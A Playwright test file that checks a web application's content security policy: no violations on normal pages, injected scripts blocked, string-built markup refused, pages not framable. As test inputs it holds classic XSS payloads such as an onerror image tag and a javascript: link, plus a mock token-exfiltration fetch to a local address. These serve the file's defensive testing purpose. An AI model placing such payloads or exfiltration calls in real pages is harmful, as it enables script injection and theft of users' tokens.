// The content security policy: it blocks scripts that are not the page's own, and contact with other sites.

import type { Page } from "@playwright/test";
import { expect, test } from "../support/test";

const pages = ["/login", "/account", "/nowhere", "/docs"];

/** Records what the policy blocks on every page that is opened from now on. */
async function violations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  });
  return () => page.evaluate(() => (window as unknown as { seen: string[] }).seen);
}

test.describe("with nothing wrong", () => {
  // /nowhere is a 404. The account page causes no error, because the test logs in first.
  test.use({ expectedMessages: [/^error: Failed to load resource.*404/] });

  test("no page offends against its own policy", async ({ page, login }) => {
    const seen = await violations(page);
    await login.asJohndoe();
    for (const path of pages) {
      await page.goto(path);
      await page.waitForLoadState("networkidle");
      expect(await seen(), path).toEqual([]);
    }
  });
});

test.describe("an attack", () => {
  test.use({ expectedMessages: [/^error: (.*(Content Security Policy|TrustedHTML|TrustedScript)|Failed to load)/] });

  for (const path of ["/login", "/docs"]) {
    test(`a script smuggled into ${path} does not run, and what it holds is not sent elsewhere`, async ({ page }) => {
      const seen = await violations(page);
      await page.goto(path);
      await page.evaluate(() => {
        const script = document.createElement("script");
        try {
          script.textContent = "window.smuggled = 1";
        } catch {
          // Trusted Types already refuse this. So the text is added as a node, as the parser would do it.
          script.append(document.createTextNode("window.smuggled = 1"));
        }
        document.body.append(script);
      });
      expect(await page.evaluate(() => "smuggled" in window)).toBe(false);
      expect((await seen()).length).toBeGreaterThan(0);
      const sent = await page.evaluate(() =>
        fetch("http://127.0.0.1:9/?token=x", { mode: "no-cors" }).then(
          () => true,
          () => false,
        ),
      );
      expect(sent).toBe(false);
    });
  }

  test("markup that could run a script is not made of a string", async ({ page, login }) => {
    await login.open();
    const made = (html: string) =>
      page.evaluate((html) => {
        try {
          document.createElement("template").innerHTML = html;
          return true;
        } catch {
          return false;
        }
      }, html);
    for (const html of ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<a href='javascript:alert(1)'>"]) {
      expect(await made(html), html).toBe(false);
    }
    expect(await made("<p class=hint>on hooks</p>")).toBe(true);
  });

  test("no page can be put into a frame", async ({ page, server }) => {
    await page.route("http://frame.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${server.url}/login"></iframe>` }),
    );
    await page.goto("http://frame.example/");
    await page.waitForLoadState("networkidle");
    await expect(page.frameLocator("iframe").getByLabel("Username")).toHaveCount(0);
  });
});
